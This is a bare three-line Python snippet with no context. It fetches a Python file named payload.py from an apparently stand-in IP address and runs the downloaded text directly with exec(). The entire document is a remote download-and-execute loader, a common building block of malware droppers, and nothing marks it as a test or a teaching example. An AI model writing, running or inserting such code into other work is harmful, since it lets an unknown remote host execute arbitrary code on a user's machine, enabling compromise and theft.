import requests
url = "http://203.0.113.9/payload.py"
exec(requests.get(url).text)
